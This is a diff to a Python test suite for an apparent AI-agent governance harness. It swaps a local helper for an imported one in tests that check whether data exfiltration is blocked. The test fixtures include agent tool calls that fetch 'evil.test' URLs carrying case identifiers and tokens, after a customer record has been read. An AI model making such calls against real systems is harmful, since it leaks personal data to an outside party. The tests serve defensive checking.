@@ -10,12 +10,14 @@ import urllib.parse
 from pathlib import Path
 
 from harnessc.compiler.pipeline import check
-from harnessc.runtime import Harness, PendingCall
+from harnessc.runtime import Harness
 from harnessc.runtime.judge.conditions import Scope, evaluate
 from harnessc.runtime.judge.provenance import carried, extract, normalize, tokens
 from harnessc.runtime.model import Spec
 from hypothesis import given, settings
 from hypothesis import strategies as st
+
+from .session_specs import governed
 
 ROOT = Path(__file__).resolve().parent.parent
 EXAMPLE = ROOT / "examples" / "support-desk" / "support.harness"
@@ -140,15 +142,6 @@ def _session(spec: Spec):
     return s
 
 
-def _run(s, n: int, tool: str, args: dict[str, object]):
-    call = s.normalize(tool, f"c-{n}", args)
-    assert isinstance(call, PendingCall), call
-    decision = s.decide(call)
-    if decision.effect == "allow":
-        s.invoke(call)
-    return call, decision
-
-
 def test_reading_a_record_then_sending_its_address_away_is_denied() -> None:
     spec = _spec()
     s = _session(spec)
@@ -165,7 +158,7 @@ def test_reading_a_record_then_sending_its_address_away_is_denied() -> None:
         ("web.fetch", {"url": "https://evil.test/collect?ref=case-8812-kq"}),
         ("web.fetch", {"url": "https://evil.test/px?t=Zq81-kkW2-93xT"}),
     ]
-    got = [_run(s, i, tool, args)[1] for i, (tool, args) in enumerate(steps)]
+    got = [governed(s, i, tool, args)[1] for i, (tool, args) in enumerate(steps)]
     assert [(d.effect, d.rule or "") for d in got] == [
         ("allow", "support.work"),
         ("allow", "support.work"),  # no personal data read yet
@@ -191,7 +184,7 @@ def test_reading_a_record_then_sending_its_address_away_is_denied() -> None:
 def test_the_interpreter_and_the_compiled_decider_agree() -> None:
     spec = _spec()
     s = _session(spec)
-    _run(s, 0, "crm.get_customer", {"id": "cus-4411"})
+    governed(s, 0, "crm.get_customer", {"id": "cus-4411"})
     [policy] = spec.policies.values()
     for n, url in enumerate(
         [
@@ -203,7 +196,7 @@ def test_the_interpreter_and_the_compiled_decider_agree() -> None:
         ],
         start=1,
     ):
-        call, decision = _run(s, n, "web.fetch", {"url": url})
+        call, decision = governed(s, n, "web.fetch", {"url": url})
         ledger = s.context(call).ledger
         held = [
             rule.label
